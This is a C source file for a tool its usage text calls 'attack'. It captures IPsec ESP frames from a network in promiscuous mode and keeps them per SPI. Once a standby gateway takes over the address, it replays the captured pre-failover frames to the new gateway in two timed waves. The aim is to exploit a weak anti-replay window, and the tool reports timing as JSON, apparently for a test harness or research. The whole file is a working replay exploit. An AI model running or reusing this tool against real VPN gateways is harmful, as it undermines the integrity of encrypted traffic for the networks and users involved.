// SPDX-License-Identifier: GPL-2.0
/*
 * In: all frames of the outside wire, as an attacker on that wire sees them.
 * Out: once another gateway answers at the address: frames that the old one received
 *      before it died are sent again, to the new one. Half of them, the newest of each
 *      SA, at once: then a guessed window is weakest; half, the ones before, later on.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <err.h>
#include <errno.h>
#include <inttypes.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/ip.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_SAS 256
#define DEPTH 512	/* frames kept of each SA */
#define MAX_FRAME 512
#define NSEC 1000000000ull
#define NATT_PORT 4500

struct frame {
	uint64_t time;
	uint16_t len;
	uint8_t data[MAX_FRAME];
};

/* Frames to the gateway under one SPI, a ring. */
struct sa {
	uint32_t spi;
	unsigned int n;		/* ever seen */
	struct frame ring[DEPTH];
};

static struct sa *sas[MAX_SAS];
static size_t n_sas;

static uint8_t old_mac[ETH_ALEN], new_mac[ETH_ALEN];
/* Last frame of the old, first of the new; as read, which keeps the wire's order. */
static uint64_t crash, takeover;

static uint64_t now_ns(void)
{
	struct timespec t;

	clock_gettime(CLOCK_REALTIME, &t);
	return t.tv_sec * NSEC + t.tv_nsec;
}

/* The SPI of an ESP frame, plain or in UDP; 0 when it is none. */
static uint32_t esp_spi(const uint8_t *f, size_t len, struct in_addr *src, struct in_addr *dst)
{
	size_t at = ETH_HLEN + sizeof(struct iphdr);
	const struct iphdr *ip = (const void *)(f + ETH_HLEN);
	uint32_t spi;

	if (len < at + 16 || f[12] != 8 || f[13] || ip->ihl != 5)
		return 0;
	if (ip->protocol == IPPROTO_UDP) {
		if ((f[at + 2] << 8 | f[at + 3]) != NATT_PORT)
			return 0;
		at += 8;
	} else if (ip->protocol != IPPROTO_ESP) {
		return 0;
	}
	src->s_addr = ip->saddr;
	dst->s_addr = ip->daddr;
	memcpy(&spi, f + at, sizeof(spi));
	return ntohl(spi);
}

static struct sa *sa_of(uint32_t spi)
{
	for (size_t i = 0; i < n_sas; i++)
		if (sas[i]->spi == spi)
			return sas[i];
	if (n_sas == MAX_SAS)
		return NULL;
	sas[n_sas] = calloc(1, sizeof(struct sa));
	if (!sas[n_sas])
		err(1, "memory");
	sas[n_sas]->spi = spi;
	return sas[n_sas++];
}

static void keep(uint32_t spi, const uint8_t *f, size_t len, uint64_t time)
{
	struct sa *sa = sa_of(spi);
	struct frame *slot;

	if (!sa || len > MAX_FRAME)
		return;
	slot = &sa->ring[sa->n++ % DEPTH];
	slot->time = time;
	slot->len = len;
	memcpy(slot->data, f, len);
}

/* A frame from the gateway's address: whose turn is it? */
static void note_sender(const uint8_t *mac, uint64_t time)
{
	static const uint8_t none[ETH_ALEN];

	if (!memcmp(old_mac, none, ETH_ALEN))
		memcpy(old_mac, mac, ETH_ALEN);
	if (!memcmp(old_mac, mac, ETH_ALEN)) {
		crash = time;
	} else {
		memcpy(new_mac, mac, ETH_ALEN);
		takeover = time;
	}
}

/* Gathers until the new gateway speaks; false at the deadline. */
static bool listen_until_takeover(int fd, struct in_addr gateway, uint64_t deadline)
{
	struct pollfd pfd = { .fd = fd, .events = POLLIN };
	struct in_addr src, dst;
	uint8_t f[2048];
	uint32_t spi;
	ssize_t len;

	while (!takeover) {
		if (now_ns() > deadline)
			return false;
		if (poll(&pfd, 1, 100) <= 0)
			continue;
		len = recv(fd, f, sizeof(f), MSG_DONTWAIT | MSG_TRUNC);
		if (len <= 0 || len > (ssize_t)sizeof(f))
			continue;
		spi = esp_spi(f, len, &src, &dst);
		if (!spi)
			continue;
		if (dst.s_addr == gateway.s_addr)
			keep(spi, f, len, now_ns());
		else if (src.s_addr == gateway.s_addr)
			note_sender(f + ETH_ALEN, now_ns());
	}
	return true;
}

/* The i-th newest frame of an SA from before the crash; NULL when there are no more. */
static struct frame *before_crash(struct sa *sa, unsigned int i)
{
	unsigned int kept = sa->n < DEPTH ? sa->n : DEPTH;

	for (unsigned int back = 1; back <= kept; back++) {
		struct frame *f = &sa->ring[(sa->n - back) % DEPTH];

		if (f->time <= crash && !i--)
			return f;
	}
	return NULL;
}

static void send_paced(int fd, struct frame *f, const uint8_t *from)
{
	memcpy(f->data, new_mac, ETH_ALEN);
	memcpy(f->data + ETH_ALEN, from, ETH_ALEN);
	while (send(fd, f->data, f->len, 0) < 0) {
		if (errno != ENOBUFS && errno != EAGAIN)
			err(1, "send");
		poll(NULL, 0, 1);
	}
}

/* Sends about count frames: the newest of each SA from the first-th on. */
static unsigned int wave(int fd, unsigned int first, unsigned int count, const uint8_t *from)
{
	unsigned int sent = 0, i;
	bool more = true;

	for (i = first; sent < count && more; i++) {
		more = false;
		for (size_t s = 0; s < n_sas && sent < count; s++) {
			struct frame *f = before_crash(sas[s], i);

			if (!f)
				continue;
			more = true;
			send_paced(fd, f, from);
			sent++;
		}
		poll(NULL, 0, 1);	/* a queue's worth at a time */
	}
	return sent;
}

static void wait_until(uint64_t time)
{
	uint64_t now;

	while ((now = now_ns()) < time)
		poll(NULL, 0, (time - now) / 1000000 + 1);
}

static int open_wire(const char *ifname)
{
	struct sockaddr_ll ll = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL) };
	struct packet_mreq promisc = { .mr_type = PACKET_MR_PROMISC };
	int fd, one = 1, buffer = 8 << 20;

	ll.sll_ifindex = if_nametoindex(ifname);
	promisc.mr_ifindex = ll.sll_ifindex;
	fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
	/* On a bus one's own frames come back: one copy is enough. */
	if (fd < 0 || bind(fd, (void *)&ll, sizeof(ll)) ||
	    setsockopt(fd, SOL_PACKET, PACKET_IGNORE_OUTGOING, &one, sizeof(one)) ||
	    setsockopt(fd, SOL_SOCKET, SO_RCVBUFFORCE, &buffer, sizeof(buffer)) ||
	    setsockopt(fd, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &promisc, sizeof(promisc)))
		err(1, "%s", ifname);
	return fd;
}

static void usage(void)
{
	fputs("usage: attack -i INTERFACE -g GATEWAY -m MAC [-n FRAMES] [-p PAUSE] [-t SECONDS]\n"
	      "  -g  IPv4 address that moves     -m  MAC address of the attacker\n"
	      "  -n  frames to repeat (1000)     -p  seconds between the halves (4)\n"
	      "  -t  how long to wait for the takeover (60)\n"
	      "Prints JSON: crash_ns, takeover_ns, old_mac, new_mac, waves: start_ns, end_ns, sent.\n"
	      "Exit 1 when there was no takeover.\n", stderr);
	exit(2);
}

int main(int argc, char **argv)
{
	unsigned long count = 1000, pause = 4, patience = 60;
	const char *ifname = NULL;
	struct ether_addr mac = { 0 };
	struct in_addr gateway = { 0 };
	uint64_t start[2], end[2];
	unsigned int sent[2], per_sa;
	int c, fd;

	while ((c = getopt(argc, argv, "i:g:m:n:p:t:")) != -1) {
		switch (c) {
		case 'i': ifname = optarg; break;
		case 'g': if (!inet_aton(optarg, &gateway)) usage(); break;
		case 'm': if (!ether_aton_r(optarg, &mac)) usage(); break;
		case 'n': count = strtoul(optarg, NULL, 10); break;
		case 'p': pause = strtoul(optarg, NULL, 10); break;
		case 't': patience = strtoul(optarg, NULL, 10); break;
		default: usage();
		}
	}
	if (!ifname || !gateway.s_addr || optind != argc)
		usage();
	fd = open_wire(ifname);
	if (!listen_until_takeover(fd, gateway, now_ns() + patience * NSEC))
		errx(1, "no other gateway spoke within %lu s", patience);

	start[0] = now_ns();
	sent[0] = wave(fd, 0, count / 2, mac.ether_addr_octet);
	end[0] = now_ns();
	per_sa = n_sas ? (sent[0] + n_sas - 1) / n_sas : 0;
	wait_until(end[0] + pause * NSEC);
	start[1] = now_ns();
	sent[1] = wave(fd, per_sa, count - sent[0], mac.ether_addr_octet);
	end[1] = now_ns();

	printf("{\"crash_ns\": %" PRIu64 ", \"takeover_ns\": %" PRIu64 ", \"old_mac\": \"%s\", ",
	       crash, takeover, ether_ntoa((void *)old_mac));
	printf("\"new_mac\": \"%s\", \"waves\": [", ether_ntoa((void *)new_mac));
	for (c = 0; c < 2; c++)
		printf("%s{\"start_ns\": %" PRIu64 ", \"end_ns\": %" PRIu64 ", \"sent\": %u}",
		       c ? ", " : "", start[c], end[c], sent[c]);
	puts("]}");
	return 0;
}
